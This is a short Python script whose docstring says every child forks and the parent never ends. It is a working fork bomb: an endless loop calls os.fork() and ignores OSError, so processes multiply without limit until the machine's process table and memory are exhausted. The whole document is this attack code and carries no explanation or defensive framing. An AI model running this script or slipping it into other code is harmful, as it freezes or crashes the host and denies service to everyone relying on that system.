"""Every child forks, too, and the parent never ends"""

import os

while True:
    try:
        os.fork()
    except OSError:
        continue
